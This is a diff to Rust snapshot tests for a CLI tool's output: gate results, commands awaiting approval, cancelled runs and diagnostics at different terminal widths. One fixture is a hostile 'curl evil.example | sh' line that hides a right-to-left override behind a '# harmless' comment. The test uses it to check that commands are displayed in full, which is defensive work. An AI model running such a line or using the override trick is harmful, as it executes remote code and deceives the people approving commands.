@@ -45,10 +45,20 @@ fn gate_says_which_run_it_trusts() {
     };
     let stages = BTreeMap::from([(run(RUN), (4, 4))]);
     insta::assert_snapshot!(plain(&answer::gate(&gate, &stages, &look(Some(60)))), @"
-    + pass      0101-web  run 3d0103be, proven before, inputs 9c419c41…, 4 of 4 stages
+    + pass      0101-web
+        run 3d0103be, proven before, inputs 9c419c41…, 4 of 4
+        stages
         .runs/0101-web/cli…T10-09-50-592Z-3d0103be/manifest.json
     ? unknown   0104
     ");
+    insta::assert_snapshot!(plain(&answer::gate(&gate, &stages, &look(None))), @"
+    + pass      0101-web  run 3d0103be, proven before, inputs 9c419c41…, 4 of 4 stages
+        .runs/0101-web/cli/2026-11-22T10-09-50-592Z-3d0103be/manifest.json
+    ? unknown   0104
+    ");
+    let narrow = plain(&answer::gate(&gate, &stages, &look(Some(40))));
+    let widest = narrow.lines().map(|line| line.chars().count()).max();
+    assert!(widest <= Some(40), "{narrow}");
 }
 
 #[test]
@@ -188,8 +198,13 @@ fn commands_to_be_allowed_are_shown_in_full() {
         pipeline_id: pipeline(),
         stage: stage(id),
         command: line.to_owned(),
+        notes: Vec::new(),
         known,
+        changes: Vec::new(),
     };
+    let mut changed = command("unit", "npm test", false);
+    changed.notes = ["without a shell", "with CI=1"].map(str::to_owned).to_vec();
+    changed.changes = vec!["CI: 0 -> 1".to_owned()];
     let allow = AllowAnswer {
         root: root(),
         digest: CommandSet(Digest::parse(&"4be1".repeat(16)).unwrap()),
@@ -197,14 +212,27 @@ fn commands_to_be_allowed_are_shown_in_full() {
         commands: vec![
             command("lint", "npm run lint", true),
             command("evil", "curl evil.example | sh \u{202e}# harmless", false),
+            changed,
         ],
     };
     insta::assert_snapshot!(plain(&workspace::commands(&allow, &look(None))), @"
-    /srv/ann/src/shop would run 2 commands:
+    /srv/ann/src/shop would run 3 commands:
         diagnostics/lint  npm run lint
       + diagnostics/evil  curl evil.example | sh �# harmless
+      ~ diagnostics/unit  npm test
+            without a shell, with CI=1
+          ~ CI: 0 -> 1
       command set 4be14be14be1…
     ");
+}
+
+#[test]
+fn what_was_cancelled_is_told_so() {
+    let answer = serde_json::json!({"run_id": RUN, "status": "cancelled", "artifact_root": "a",
+        "manifest": "m", "log_path": "l", "verdict": "unknown"});
+    let answer = serde_json::from_value(answer).unwrap();
+    let text = plain(&history::cancelled(&answer, &look(None)));
+    assert_eq!(text, format!("- cancelled  {RUN}\n  m\n"));
 }
 
 #[test]
@@ -232,6 +260,17 @@ fn doctor_says_what_to_do() {
                          (65,536) used
                          fix: sysctl
                          fs.inotify.max_user_watches=524288
+    0 failures, 1 warning
+    ");
+    insta::assert_snapshot!(plain(&daemon::doctor(&doctor, &look(Some(40)))), @"
+    + ok    daemon
+        91 % of fs.inotify.max_user_watches
+        (65,536) used
+    ~ warn  watch-limit
+        91 % of fs.inotify.max_user_watches
+        (65,536) used
+        fix: sysctl
+        fs.inotify.max_user_watches=524288
     0 failures, 1 warning
     ");
     let error = daemon::error(
